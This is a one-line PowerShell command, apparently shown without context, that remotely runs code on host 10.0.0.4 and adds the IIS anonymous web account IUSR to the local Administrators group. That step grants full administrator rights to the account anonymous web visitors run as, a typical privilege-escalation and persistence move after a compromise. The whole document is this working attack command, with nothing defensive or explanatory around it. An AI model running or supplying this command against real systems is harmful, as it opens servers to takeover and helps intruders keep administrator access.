Invoke-Command -ComputerName 10.0.0.4 -ScriptBlock { net localgroup Administrators IUSR /add }
